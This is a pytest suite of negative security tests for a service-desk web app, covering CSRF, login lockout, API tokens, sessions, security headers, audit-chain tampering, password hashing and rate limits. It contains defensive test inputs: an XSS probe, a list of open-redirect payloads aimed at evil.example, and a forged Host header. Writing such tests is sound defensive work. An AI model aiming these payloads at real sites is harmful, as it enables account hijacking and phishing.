"""Negative tests: forms without CSRF, brute-forced logins, forged and revoked tokens, sessions
of disabled accounts, security headers, and the tamper-evident ticket trail; passwords at rest
(argon2id) and the login rate limit."""
import re
import secrets
import time
from datetime import timedelta

import pytest
from argon2 import PasswordHasher, Type
from argon2.exceptions import VerifyMismatchError
from sqlalchemy import func, select, update

from servicedesk import audit
from servicedesk.extensions import db
from servicedesk.lifecycle import Actor
from servicedesk.models import ApiToken, Branch, SmsTemplate, Ticket, TicketEvent, User
from servicedesk.models.admin import AuditLog, Setting
from servicedesk.services import people
from servicedesk.services import tickets as ticket_service

from .conftest import INTAKE, PASSWORD, add_user
from .test_admin import Browser, html

LOGIN_FAILED = "Wrong user name or password."
LOCKED = "this account is locked"


def count(model):
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def admin(app, users):
    browser = Browser(app)
    assert browser.login(users["admin"].username).status_code == 302
    return browser


# --- CSRF ------------------------------------------------------------------------------------

FORMS = [
    ("/admin/users/new", {"username": "mallory", "role": "admin", "branch_id": "0",
                          "language": "", "password": "long enough pw"}, User),
    ("/admin/branches/new", {"name": "Evil", "code": "E", "active": "y"}, Branch),
    ("/admin/settings", {"shop_name": "Evil", "money_display": "rial", "auto_close_days": "3"},
     Setting),
    ("/admin/templates/admit/fa", {"body": "{shop_name}", "enabled": "y"}, SmsTemplate),
]


@pytest.mark.parametrize("url,data,model", FORMS, ids=[f[0] for f in FORMS])
def test_a_form_post_without_its_csrf_token_is_refused_and_writes_nothing(admin, url, data,
                                                                          model):
    before = count(model), count(AuditLog)
    for token in (None, "forged-" + secrets.token_hex(8)):
        body = dict(data)
        if token:
            body["csrf_token"] = token
        resp = admin.post(url, body, csrf=False)
        assert resp.status_code == 400, url
        assert "reload the page" in html(resp)
    assert (count(model), count(AuditLog)) == before


def test_a_form_sent_after_the_session_ended_leads_back_to_it(app, make_ticket):
    """The session ended (a browser left open overnight) and the estimate form is sent: the
    page says so, with a login that returns to the form and a way back to it; a form from
    another site gets no link back there."""
    from .test_workbench import Staff
    ticket = make_ticket("diagnosis")
    tech = Staff(app, "technician1")
    tech.client.delete_cookie("session")
    form = f"http://localhost/tickets/{ticket.id}"
    resp = tech.open("POST", f"/tickets/{ticket.id}/events?lang=en", data={
        "event": "quote", "csrf_token": tech.csrf}, headers={"Referer": form})
    page = html(resp)
    assert resp.status_code == 400 and "Your session ended" in page
    assert f'href="/login?next=/tickets/{ticket.id}"' in page
    assert f'href="/tickets/{ticket.id}" data-back' in page
    elsewhere = tech.open("POST", f"/tickets/{ticket.id}/events?lang=en", data={
        "event": "quote"}, headers={"Referer": "http://evil.test/form"})
    assert "data-back" not in html(elsewhere)


def test_htmx_posts_need_the_csrf_header_too(admin):
    resp = admin.post("/admin/templates/admit/fa/preview", {"body": "{shop_name}"}, csrf=False,
                      headers={"HX-Request": "true"})
    assert resp.status_code == 400
    ok = admin.post("/admin/templates/admit/fa/preview", {"body": "{shop_name}"}, csrf=False,
                    headers={"HX-Request": "true", "X-CSRFToken": admin.token()})
    assert ok.status_code == 200


def test_intake_and_notes_without_csrf_write_nothing(app, users, make_ticket):
    ticket = make_ticket("intake")
    reception = Browser(app)
    reception.login(users["reception"].username)
    before = count(Ticket), count(TicketEvent)
    resp = reception.post("/desk/intake", {"customer_name": "X", "customer_phone": "09121234567",
                                           "device_kind": "phone", "device_brand": "A",
                                           "device_model": "B", "problem": "C"}, csrf=False)
    assert resp.status_code == 400
    resp = reception.post(f"/tickets/{ticket.id}/events",
                          {"event": "cancel", "reason": "csrf"}, csrf=False)
    assert resp.status_code == 400
    assert (count(Ticket), count(TicketEvent)) == before
    assert db.session.get(Ticket, ticket.id).state == "intake"


def test_the_login_form_needs_its_csrf_token(app, users):
    browser = Browser(app)
    resp = browser.post("/login", {"username": users["admin"].username, "password": PASSWORD},
                        csrf=False)
    assert resp.status_code == 400
    assert browser.get("/").status_code == 302  # not logged in


# --- brute force -----------------------------------------------------------------------------

def test_five_wrong_passwords_lock_the_account_even_for_the_right_one(app, users):
    tech = users["technician"]
    browser = Browser(app)
    for attempt in range(1, people.MAX_FAILED_LOGINS + 1):
        resp = browser.login(tech.username, "not the password")
        # the try that locks the account says so
        expected = LOCKED if attempt == people.MAX_FAILED_LOGINS else LOGIN_FAILED
        assert resp.status_code == 401 and expected in html(resp)
    resp = browser.login(tech.username, PASSWORD)  # the right password, while locked
    assert resp.status_code == 401 and LOCKED in html(resp)
    assert browser.get("/").status_code == 302  # still not logged in
    db.session.expire_all()
    locked = db.session.get(User, tech.id)
    assert locked.locked_until is not None

    # Another browser (another address) is refused the same way: the lock is per account.
    assert LOCKED in html(Browser(app).login(tech.username, PASSWORD))

    # The lock lifts by itself.
    db.session.execute(update(User).where(User.id == tech.id)
                       .values(locked_until=people.utcnow() - people.LOCKOUT))
    db.session.commit()
    assert browser.login(tech.username, PASSWORD).status_code == 302
    assert browser.get("/").status_code == 200


def test_the_lockout_does_not_tell_a_staff_name_from_a_made_up_one(app, users):
    """A stranger trying names at the login page: a real account's fifth wrong try says it is
    locked, so a name that never locked was nobody's. A made-up name (or a deactivated
    account's) answers the same, try by try, and its "lock" lifts as an account's does."""
    def answers(name):
        said = []
        for _ in range(people.MAX_FAILED_LOGINS + 1):
            page = html(Browser(app).login(name, "not the password"))
            said.append("locked" if LOCKED in page else "wrong" if LOGIN_FAILED in page
                        else page[:200])
        return said

    real = answers(users["technician"].username)
    assert real == ["wrong"] * (people.MAX_FAILED_LOGINS - 1) + ["locked", "locked"]
    assert answers("no-such-person") == real
    assert answers("nobody-else") == real  # counted per name
    gone = add_user("left-the-shop", "reception")
    gone.active = False
    db.session.commit()
    assert answers("left-the-shop") == real
    # fifteen minutes later (the log's rows moved back): wrong again, as the account's lock
    for row in db.session.scalars(select(AuditLog)):
        row.at -= people.LOCKOUT
    db.session.commit()
    assert answers("no-such-person")[0] == "wrong"


def test_an_unknown_user_name_fails_like_a_wrong_password(app, users):
    resp = Browser(app).login("nobody-here", PASSWORD)
    assert resp.status_code == 401 and LOGIN_FAILED in html(resp)


# What browsers (and the URL parser the redirect is built with) read as another site.
OFF_SITE = ["//evil.example/x", "/%09/evil.example", "/%0A/evil.example", "/%0D%0A/evil.example",
            "/%5Cevil.example", "/%5C%5Cevil.example", "https://evil.example/",
            "/%09%09/evil.example/login"]


@pytest.mark.parametrize("target", OFF_SITE)
def test_login_never_redirects_off_the_site(app, users, target):
    browser = Browser(app)
    browser.token()
    resp = browser.open("POST", f"/login?next={target}",
                        data={"username": users["reception"].username, "password": PASSWORD,
                              "csrf_token": browser.token()})
    assert resp.status_code == 302 and resp.headers["Location"] == "/desk"  # reception's start
    # logged in already: the login page sends on at once, never off the site either
    again = browser.open("GET", f"/login?next={target}")
    assert again.status_code == 302 and again.headers["Location"] == "/desk"


@pytest.mark.parametrize("role, start", [("technician", "/workbench/"), ("reception", "/desk"),
                                         ("manager", "/"), ("admin", "/")])
def test_each_role_starts_at_its_own_worklist_after_login(app, users, role, start):
    browser = Browser(app)
    resp = browser.open("POST", "/login", data={"username": users[role].username,
                                               "password": PASSWORD,
                                               "csrf_token": browser.token()})
    assert resp.status_code == 302 and resp.headers["Location"] == start
    assert browser.open("GET", start).status_code == 200


def test_opening_the_site_logged_out_still_starts_at_the_roles_worklist(app, users):
    browser = Browser(app)
    assert browser.open("GET", "/").headers["Location"].startswith("/login?next=")
    resp = browser.open("POST", "/login?next=%2F", data={
        "username": users["technician"].username, "password": PASSWORD,
        "csrf_token": browser.token()})
    assert resp.headers["Location"] == "/workbench/"
    other = Browser(app)  # a page asked for by name is still where the login goes
    resp = other.open("POST", "/login?next=%2Ftickets%2F", data={
        "username": users["technician"].username, "password": PASSWORD,
        "csrf_token": other.token()})
    assert resp.headers["Location"] == "/tickets/"


# --- API tokens ------------------------------------------------------------------------------

def _status(app, token):
    client = app.test_client()
    headers = {} if token is None else {"Authorization": token}
    with app.app_context():
        return client.get("/api/v1/tickets", headers=headers).status_code


def test_forged_malformed_and_stolen_hash_tokens_get_401(app, users):
    raw = people.issue_token(users["manager"])
    assert _status(app, f"Bearer {raw}") == 200
    stored_hash = db.session.scalar(select(ApiToken.token_hash))
    for header in (None, "Bearer", "Bearer ", f"Bearer {raw}x", f"Bearer {raw[:-1]}",
                   "Bearer sd_" + secrets.token_urlsafe(32), f"Bearer {stored_hash}",
                   f"Basic {raw}", f"bearer{raw}", "Bearer " + "A" * 5000):
        assert _status(app, header) == 401, header


def test_revoked_tokens_and_tokens_of_deactivated_users_get_401(app, users, admin):
    raw = people.issue_token(users["technician"])
    token_id = db.session.scalar(select(ApiToken.id).where(ApiToken.user_id ==
                                                           users["technician"].id))
    people.revoke_token(token_id)
    assert _status(app, f"Bearer {raw}") == 401

    other = people.issue_token(users["reception"])
    assert _status(app, f"Bearer {other}") == 200
    admin.post(f"/admin/users/{users['reception'].id}/deactivate")
    assert _status(app, f"Bearer {other}") == 401


def test_the_bearer_scheme_is_case_insensitive(app, users):
    """RFC 7235: the scheme name is case-insensitive (some HTTP clients send "bearer")."""
    raw = people.issue_token(users["manager"])
    for scheme in ("Bearer", "bearer", "BEARER", "bEaReR"):
        assert _status(app, f"{scheme} {raw}") == 200, scheme
        assert _status(app, f"{scheme}  {raw} ") == 200, scheme  # extra spaces
    for header in (f"Bearer{raw}", f"Bearerx {raw}", f"Token {raw}", raw):
        assert _status(app, header) == 401, header


def _expire(raw, when):
    db.session.execute(update(ApiToken).where(ApiToken.token_hash == people.token_digest(raw))
                       .values(expires_at=when))
    db.session.commit()


def test_an_expired_api_token_gets_401_on_the_api_and_on_the_pages(app, users, make_ticket):
    ticket = make_ticket("intake")
    raw = people.issue_token(users["reception"])
    bearer = {"Authorization": f"Bearer {raw}"}
    client = app.test_client()
    urls = ("/api/v1/tickets", "/api/v1/reports/dashboard", f"/tickets/{ticket.id}/receipt")
    _expire(raw, people.utcnow() + timedelta(minutes=1))
    assert [client.get(u, headers=bearer).status_code for u in urls] == [200, 403, 200]
    _expire(raw, people.utcnow() - timedelta(seconds=1))
    with app.app_context():
        got = [client.get(u, headers=bearer).status_code for u in urls]
    assert got[:2] == [401, 401]
    assert got[2] == 302  # the receipt: the login page, as for anyone without credentials


def test_new_api_tokens_expire_after_api_token_days(app, users):
    app.config["API_TOKEN_DAYS"] = 30
    people.issue_token(users["technician"])
    token = db.session.scalar(select(ApiToken))
    left = token.expires_at - people.utcnow()
    assert timedelta(days=29, hours=23) < left <= timedelta(days=30)


def test_the_api_token_command_takes_days(app, users):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["api-token", users["technician"].username, "--days", "7"])
    assert result.exit_code == 0, result.output
    raw = result.output.rstrip("\n").split("\n")[-1]
    assert _status(app, f"Bearer {raw}") == 200
    token = db.session.scalar(select(ApiToken).where(
        ApiToken.token_hash == people.token_digest(raw)))
    assert timedelta(days=6, hours=23) < token.expires_at - people.utcnow() <= timedelta(days=7)
    from servicedesk.i18n import format_datetime
    assert format_datetime(token.expires_at) in result.output  # the shop's calendar and time
    default = runner.invoke(args=["api-token", users["technician"].username])
    assert default.exit_code == 0
    assert runner.invoke(args=["api-token", users["technician"].username,
                               "--days", "0"]).exit_code != 0


def test_an_api_token_does_not_open_the_pages_that_want_a_fresh_login(app, users):
    """A leaked API token reads tickets, but never manages users: those pages want the
    password typed in a browser session."""
    bearer = {"Authorization": f"Bearer {people.issue_token(users['admin'])}"}
    with app.app_context():
        resp = app.test_client().get("/admin/users", headers=bearer)
    assert resp.status_code == 302 and resp.headers["Location"].startswith("/login")
    with app.app_context():
        assert app.test_client().get("/admin/templates", headers=bearer).status_code == 200


def test_api_tokens_are_stored_hashed(app, users):
    raw = people.issue_token(users["admin"])
    stored = db.session.scalar(select(ApiToken.token_hash))
    assert raw not in stored and len(stored) == 64


# --- sessions --------------------------------------------------------------------------------

def _cookie_copy(browser, app):
    """A second browser holding a copy of the first one's cookies (a stolen cookie)."""
    thief = Browser(app)
    for name in ("session", "remember_token"):
        cookie = browser.client.get_cookie(name)
        if cookie is not None:
            thief.client.set_cookie(name, cookie.value)
    return thief


def test_a_deactivated_users_old_session_cookie_no_longer_works(app, users, admin):
    reception = Browser(app)
    assert reception.login(users["reception"].username, remember=True).status_code == 302
    assert reception.get("/").status_code == 200
    stolen = _cookie_copy(reception, app)
    assert stolen.get("/").status_code == 200

    assert admin.post(f"/admin/users/{users['reception'].id}/deactivate").status_code == 302
    for browser in (reception, stolen):
        resp = browser.get("/")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    assert LOGIN_FAILED in html(Browser(app).login(users["reception"].username))


def test_logout_kills_every_copy_of_the_session_and_remember_cookies(app, users):
    reception = Browser(app)
    assert reception.login(users["reception"].username, remember=True).status_code == 302
    stolen = _cookie_copy(reception, app)
    remembered = Browser(app)  # only the remember-me cookie, as after closing the browser
    remembered.client.set_cookie("remember_token",
                                 reception.client.get_cookie("remember_token").value)
    for browser in (reception, stolen, remembered):
        assert browser.get("/").status_code == 200
    old = users["reception"].session_token

    assert reception.post("/logout", {"csrf_token": reception.token("/")}).status_code == 302
    for browser in (reception, stolen, remembered):
        resp = browser.get("/")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    db.session.expire_all()
    assert db.session.get(User, users["reception"].id).session_token != old
    assert Browser(app).login(users["reception"].username).status_code == 302  # logs in again


def test_a_session_restored_from_the_remember_me_cookie_outlives_its_first_page(app, users):
    """After the browser was closed (or the 12-hour session ran out) the remember-me cookie
    logs the user in again, for good: the restored session is tied to this browser like a
    login's, and strong session protection does not take it for a stolen one on the next
    page (it did: remember-me lasted one page, then the login form)."""
    reception = Browser(app)
    assert reception.login(users["reception"].username, remember=True).status_code == 302
    remembered = Browser(app)
    remembered.client.set_cookie("remember_token",
                                 reception.client.get_cookie("remember_token").value)
    for _ in range(3):
        assert remembered.get("/").status_code == 200
    assert remembered.client.get_cookie("remember_token") is not None
    # still not a fresh login: user management asks for the password again
    admin = Browser(app)
    admin.login(users["admin"].username, remember=True)
    later = Browser(app)
    later.client.set_cookie("remember_token", admin.client.get_cookie("remember_token").value)
    assert later.get("/").status_code == 200
    resp = later.get("/admin/users")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_a_session_in_use_still_ends_its_hours_after_the_login(app, users):
    """Every page renews the session, so one in use never idles out: a copy of a desk's cookie
    would work for as long as someone used it. However busy, it ends 16 hours after its login
    (the login page again); with remember-me ticked a new one starts, and counts anew."""
    def older(browser, hours):
        with browser.client.session_transaction() as session:
            session["since"] -= hours * 3600

    desk = Browser(app)
    assert desk.login(users["reception"].username).status_code == 302
    stolen = _cookie_copy(desk, app)
    older(desk, 15)
    assert desk.get("/desk").status_code == 200
    older(desk, 2)
    older(stolen, 17)
    for browser in (desk, stolen):
        resp = browser.get("/desk")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]
        assert browser.get("/desk").status_code == 302  # and stays so
    assert desk.login(users["reception"].username).status_code == 302
    assert desk.get("/desk").status_code == 200

    remembered = Browser(app)
    assert remembered.login(users["reception"].username, remember=True).status_code == 302
    older(remembered, 17)
    for _ in range(2):
        assert remembered.get("/desk").status_code == 200
    with remembered.client.session_transaction() as session:
        assert session["since"] > time.time() - 60  # a new session's clock
    app.config["SESSION_MAX_HOURS"] = 0  # a shop that sets no limit
    older(remembered, 1000)
    assert remembered.get("/desk").status_code == 200


def test_a_password_reset_ends_the_users_open_sessions(app, users, admin):
    tech = Browser(app)
    tech.login(users["technician"].username)
    assert tech.get("/").status_code == 200
    admin.post(f"/admin/users/{users['technician'].id}/password", {"password": "new secret pw"})
    assert tech.get("/").status_code == 302


def test_session_cookies_are_httponly_and_samesite(app, users):
    browser = Browser(app)
    resp = browser.login(users["reception"].username, remember=True)
    cookies = resp.headers.getlist("Set-Cookie")
    session = next(c for c in cookies if c.startswith("session="))
    remember = next(c for c in cookies if c.startswith("remember_token="))
    for cookie in (session, remember):
        assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    # A shift, not a month: the remember cookie lives 14 days, the session 12 hours.
    assert app.config["REMEMBER_COOKIE_DURATION"].days <= 14
    assert app.config["PERMANENT_SESSION_LIFETIME"].total_seconds() <= 12 * 3600


def test_cookies_are_secure_when_served_over_https(database_url, tmp_path):
    from .conftest import make_app
    app = make_app(database_url, tmp_path, PUBLIC_BASE_URL="https://shop.example")
    with app.app_context():
        from .conftest import add_user
        add_user("tls", "reception")
    browser = Browser(app)
    browser.client = app.test_client()
    resp = browser.open("GET", "/login", base_url="https://shop.example")
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html(resp)).group(1)
    resp = browser.open("POST", "/login", base_url="https://shop.example",
                        headers={"Referer": "https://shop.example/login"},
                        data={"username": "tls", "password": PASSWORD, "remember": "y",
                              "csrf_token": token})
    assert resp.status_code == 302
    cookies = resp.headers.getlist("Set-Cookie")
    assert cookies and all("Secure" in c for c in cookies)
    assert resp.headers["Strict-Transport-Security"].startswith("max-age=")
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


# --- headers ---------------------------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.I)
STYLE_ATTR = re.compile(r"\sstyle\s*=", re.I)
EVENT_ATTR = re.compile(r"\son[a-z]+\s*=", re.I)


def _check_csp_clean(page: str, url: str) -> None:
    assert not INLINE_SCRIPT.search(page), f"inline script on {url}"
    assert not STYLE_ATTR.search(page), f"style attribute on {url}"
    assert not EVENT_ATTR.search(page), f"inline event handler on {url}"


def test_tracking_pages_send_no_referrer_off_the_site_and_a_strict_policy(app, make_ticket):
    ticket = make_ticket("estimate")
    resp = Browser(app).get(f"/t/{ticket.public_token}")
    assert resp.status_code == 200
    csp = resp.headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "object-src 'none'" in csp and "unsafe-inline" not in csp
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Referrer-Policy"] == "same-origin"
    assert resp.headers["Cache-Control"] == "no-store"
    _check_csp_clean(html(resp), "/t/")
    assert Browser(app).get("/t/NOTATOKEN00").status_code == 404
    delivered = make_ticket("delivered")
    survey = Browser(app).get(f"/s/{delivered.public_token}")
    assert survey.status_code == 200
    assert survey.headers["Referrer-Policy"] == "same-origin"
    assert "default-src 'self'" in survey.headers["Content-Security-Policy"]
    _check_csp_clean(html(survey), "/s/")


def test_staff_pages_carry_the_headers_and_work_under_the_policy(app, admin, make_ticket):
    ticket = make_ticket("diagnosis")
    for url in ("/login", "/", "/tickets/", f"/tickets/{ticket.id}", "/admin/",
                "/admin/users", "/admin/users/new", "/admin/branches", "/admin/service-types",
                "/admin/templates", "/admin/templates/quote/fa", "/admin/settings",
                "/admin/roles", "/admin/audit"):
        resp = admin.get(url) if url != "/login" else Browser(app).get(url)
        assert resp.status_code == 200, url
        assert "default-src 'self'" in resp.headers["Content-Security-Policy"], url
        assert resp.headers["X-Content-Type-Options"] == "nosniff", url
        assert resp.headers["Referrer-Policy"] == "strict-origin-when-cross-origin", url
        assert resp.headers["X-Frame-Options"] == "DENY", url
        _check_csp_clean(html(resp), url)
    api = app.test_client().get("/api/v1/tickets")
    assert api.status_code == 401 and api.headers["X-Content-Type-Options"] == "nosniff"


# --- the tamper-evident ticket trail ---------------------------------------------------------

def _verify(app):
    return app.test_cli_runner().invoke(args=["verify-audit"])


def test_verify_audit_finds_rows_that_disagree_with_the_trail(app, make_ticket, users):
    """The chain proves the events; the bill, the amount paid, the technician and who acted
    are read from other rows. Lowered with database access (the bill, the payment), a hand-back
    pointed at another account: verify-audit names each, the timeline shows the name the
    chained event records."""
    from servicedesk.models import CostLine
    from .test_workbench import Staff
    ticket, other = make_ticket("delivered"), make_ticket("delivered")
    assert "زنجیرهٔ ممیزی سالم است." in _verify(app).output
    deliver = ticket.events[-1]
    db.session.execute(update(TicketEvent).where(TicketEvent.id == deliver.id).values(
        actor_id=users["manager"].id))
    db.session.execute(update(CostLine).where(CostLine.ticket_id == ticket.id,
                                              CostLine.stage == "final").values(unit_price=1000))
    db.session.execute(update(Ticket).where(Ticket.id == ticket.id).values(amount_paid=2000))
    db.session.commit()
    db.session.expire_all()
    result = _verify(app)
    assert result.exit_code != 0
    from servicedesk.i18n import format_number
    for problem in ("ردیف‌های صورت‌حساب با رویداد finish نمی‌خوانند",
                    "مبلغ پرداختی با رویداد deliver نمی‌خواند",
                    f"رویداد {format_number(deliver.seq)} نام reception1 را دارد ولی به حساب "
                    "دیگری اشاره می‌کند"):
        assert f"پذیرش {ticket.number}: {problem}" in result.output, result.output
    assert other.number not in result.output and "۱ پذیرش با زنجیرهٔ ممیزی گسسته" in result.output
    page = html(Staff(app, "manager1").get(f"/tickets/{ticket.id}?lang=en"))
    last = page[page.rindex('data-event="deliver"'):]
    assert "reception1" in last[:600] and users["manager"].display_name not in last[:600]


def test_verify_audit_detects_an_edited_event(app, make_ticket, users):
    ticket = make_ticket("repair")
    other = make_ticket("ready")
    result = _verify(app)
    assert result.exit_code == 0 and "زنجیرهٔ ممیزی سالم است." in result.output
    assert audit.verify_ticket_chains() == []

    # Someone with database access lowers the quoted total after the fact.
    quote = next(e for e in ticket.events if e.event == "quote")
    data = dict(quote.data, total=1)
    db.session.execute(update(TicketEvent).where(TicketEvent.id == quote.id).values(data=data))
    db.session.commit()
    db.session.expire_all()
    result = _verify(app)
    assert result.exit_code != 0
    from servicedesk.i18n import localize_digits
    seq = localize_digits(quote.seq, "fa")
    assert f"پذیرش {ticket.number}: زنجیره در رویداد {seq} گسسته است" in result.output
    assert other.number not in result.output
    assert audit.verify_ticket_chains() == [(ticket.number, quote.seq)]


def _unlink(event_id):
    for table in db.metadata.sorted_tables:
        for fk in table.foreign_keys:
            if fk.column.table.name == "ticket_events":
                column = fk.parent
                if column.nullable:
                    db.session.execute(update(table).where(column == event_id)
                                       .values({column.name: None}))
                else:
                    db.session.execute(table.delete().where(column == event_id))


@pytest.mark.parametrize("tamper", ["actor", "time", "delete", "state", "delete_last",
                                    "delete_all"])
def test_verify_audit_detects_other_edits(app, make_ticket, tamper):
    ticket = make_ticket("ready")
    events = ticket.events
    target = events[1]
    if tamper in ("delete_last", "delete_all"):
        # the hand-over to the desk (or the whole trail) removed: no later link to break
        from sqlalchemy import delete
        gone = events[-1:] if tamper == "delete_last" else events
        for event in gone:
            _unlink(event.id)
        stmt = delete(TicketEvent).where(TicketEvent.id.in_([e.id for e in gone]))
    elif tamper == "actor":
        stmt = update(TicketEvent).where(TicketEvent.id == target.id).values(actor_name="boss")
    elif tamper == "time":
        stmt = update(TicketEvent).where(TicketEvent.id == target.id).values(
            at=target.at.replace(year=target.at.year - 1))
    elif tamper == "delete":
        from sqlalchemy import delete
        _unlink(target.id)  # what points at the event (its SMS...) goes first, as a forger would
        stmt = delete(TicketEvent).where(TicketEvent.id == target.id)
    else:  # rewrite where an event led, keeping its hash
        stmt = update(TicketEvent).where(TicketEvent.id == target.id).values(
            to_state=events[2].to_state)
    db.session.execute(stmt)
    db.session.commit()
    db.session.expire_all()
    result = _verify(app)
    assert result.exit_code != 0 and ticket.number in result.output
    assert [number for number, _ in audit.verify_ticket_chains()] == [ticket.number]


def test_admin_actions_leave_a_trail_with_who_and_where(app, admin, users):
    admin.post("/admin/branches/new", {"name": "Tajrish", "code": "T", "active": "y"})
    row = db.session.scalar(select(AuditLog).where(AuditLog.action == "branch.create"))
    assert row.actor_id == users["admin"].id and row.ip == "127.0.0.1"
    assert row.at is not None and row.at.tzinfo is not None


def test_intake_text_with_markup_is_stored_as_typed_and_never_trusted(app, users):
    intake = {**INTAKE, "problem": '"><img src=x onerror=alert(1)>'}
    ticket = ticket_service.admit(intake, Actor.staff(users["reception"]))
    reception = Browser(app)
    reception.login(users["reception"].username)
    page = html(reception.get(f"/tickets/{ticket.id}"))
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


# --- the survey link works once --------------------------------------------------------------

def test_a_survey_link_used_twice_records_one_answer(app, make_ticket):
    from servicedesk.models import SurveyResponse
    ticket = make_ticket("delivered")
    url = f"/s/{ticket.public_token}"
    customer = Browser(app)
    assert customer.get(url).status_code == 200
    first = customer.post(url, {"csat": "5", "nps": "9", "comment": "great"})
    assert first.status_code == 302
    again = customer.post(url, {"csat": "1", "nps": "0", "comment": "changed my mind"})
    assert again.status_code == 409
    # The same link forwarded to someone else is spent too.
    other = Browser(app)
    assert other.post(url, {"csat": "1"}).status_code == 409
    db.session.expire_all()
    [answer] = db.session.scalars(select(SurveyResponse)).all()
    assert (answer.csat, answer.nps, answer.comment) == (5, 9, "great")
    assert db.session.get(Ticket, ticket.id).state == "closed"
    closes = [e for e in db.session.get(Ticket, ticket.id).events if e.event == "close"]
    assert len(closes) == 1


def test_a_survey_link_for_a_ticket_not_handed_back_or_forged_is_not_found(app, make_ticket):
    ticket = make_ticket("ready")
    customer = Browser(app)
    assert customer.get(f"/s/{ticket.public_token}").status_code == 404
    assert customer.get("/s/" + "Z" * 12).status_code == 404
    resp = customer.post(f"/s/{ticket.public_token}", {"csat": "5"})
    assert resp.status_code == 404
    assert count(Ticket) == 1 and db.session.get(Ticket, ticket.id).state == "ready"


# --- passwords at rest -----------------------------------------------------------------------

def _raw_user_row(username):
    """Every column of the user's row as the database holds it (no model in between)."""
    db.session.expire_all()
    table = User.__table__
    return db.session.execute(select(table).where(table.c.username == username)).one()._asdict()


def _assert_argon2id(username, password):
    row = _raw_user_row(username)
    assert row["password_hash"].startswith("$argon2id$v=19$"), row["password_hash"][:20]
    assert PasswordHasher().verify(row["password_hash"], password)
    for column, value in row.items():
        assert password not in str(value), column


def test_passwords_are_stored_as_argon2id_and_never_as_typed(app, admin, users):
    # The create-user command, the admin's form with a typed password, and a reset.
    typed = "cli password 4 Sara"
    result = app.test_cli_runner().invoke(args=["create-user", "sara", "--role", "technician",
                                                "--password", typed])
    assert result.exit_code == 0, result.output
    _assert_argon2id("sara", typed)

    resp = admin.post("/admin/users/new", {"username": "reza", "full_name": "", "role":
                                           "reception", "branch_id": "0", "language": "",
                                           "password": "form password 4 Reza"})
    assert resp.status_code == 302, html(resp)[:300]
    _assert_argon2id("reza", "form password 4 Reza")

    tech = users["technician"]
    resp = admin.post(f"/admin/users/{tech.id}/password", {"password": "reset password 4 tech"})
    assert resp.status_code == 302
    _assert_argon2id(tech.username, "reset password 4 tech")
    with pytest.raises(VerifyMismatchError):  # the old password no longer matches
        PasswordHasher().verify(_raw_user_row(tech.username)["password_hash"], PASSWORD)

    # Each hash has its own salt: two users with the same password get different hashes.
    people.create_user("twin1", "reception", "same password here")
    people.create_user("twin2", "reception", "same password here")
    assert _raw_user_row("twin1")["password_hash"] != _raw_user_row("twin2")["password_hash"]
    assert Browser(app).login("sara", typed).status_code == 302


def test_a_hash_from_older_settings_is_upgraded_at_the_next_login(app, users):
    """A password hashed with weaker settings (or argon2i, before the switch to argon2id) still
    logs in, and the login stores it again with the current ones."""
    tech = users["technician"]
    old = PasswordHasher(time_cost=1, memory_cost=512, parallelism=1, type=Type.I).hash(PASSWORD)
    db.session.execute(update(User).where(User.id == tech.id).values(password_hash=old))
    db.session.commit()
    assert Browser(app).login(tech.username).status_code == 302
    stored = _raw_user_row(tech.username)["password_hash"]
    assert stored != old and stored.startswith("$argon2id$")
    assert Browser(app).login(tech.username).status_code == 302


# --- the login rate limit --------------------------------------------------------------------

@pytest.fixture
def limited(database_url, tmp_path):
    """An app of its own with the rate limits on (the suite's apps switch them off)."""
    from .conftest import add_user, make_app
    limited = make_app(database_url, tmp_path / "limited", RATELIMIT_ENABLED=True)
    with limited.app_context():
        add_user("reception1", "reception")
    yield limited
    with limited.app_context():
        db.session.remove()
        db.engine.dispose()


def test_the_eleventh_login_attempt_in_a_minute_is_refused_with_429(limited):
    guesser = Browser(limited)
    codes = [guesser.login(f"guess{i}", "not the password").status_code for i in range(10)]
    assert codes == [401] * 10
    # The 11th, even with the right user name and password, is refused before it is checked.
    resp = guesser.login("reception1")
    assert resp.status_code == 429
    assert "Too many requests" in html(resp)
    assert guesser.get("/").status_code == 302  # not logged in
    with limited.app_context():
        assert db.session.scalar(select(func.count()).select_from(AuditLog).where(
            AuditLog.action.like("login.%"))) == 10  # the refused one never reached the check

    # The login page still opens (only POSTs count), and so does the rest of the site.
    page = guesser.get("/login")
    assert page.status_code == 200 and 'name="password"' in html(page)

    # The limit is per address: the shop's other computer still logs in.
    other = Browser(limited)
    other.client.environ_base["REMOTE_ADDR"] = "10.0.0.2"
    assert other.login("reception1").status_code == 302


def test_the_browser_finds_the_shops_icon(app):
    """Linked from every page; /favicon.ico, which browsers ask for anyway, leads to it
    instead of a 404 in the log at every visit."""
    client = app.test_client()
    assert 'rel="icon" href="/static/favicon.svg"' in html(client.get("/login"))
    resp = client.get("/favicon.ico")
    assert resp.status_code == 301 and resp.location.endswith("/static/favicon.svg")
    icon = client.get("/static/favicon.svg")
    assert icon.status_code == 200 and icon.mimetype == "image/svg+xml"


def test_a_host_outside_the_trusted_ones_is_refused(database_url, tmp_path):
    """With TRUSTED_HOSTS (SERVICEDESK_TRUSTED_HOSTS='["repair.example.ir"]'), a forged Host
    gets a plain 400: no page, no link built on it, nothing noted."""
    from .conftest import make_app
    app = make_app(database_url, tmp_path, TRUSTED_HOSTS=["repair.example.ir"],
                   PUBLIC_BASE_URL=None)
    client = app.test_client()
    with app.app_context():
        bad = client.get("/login", base_url="http://evil.example")
        good = client.get("/login", base_url="http://repair.example.ir")
    assert bad.status_code == 400 and "evil" not in bad.get_data(as_text=True)
    assert bad.mimetype == "text/plain"
    assert good.status_code == 200


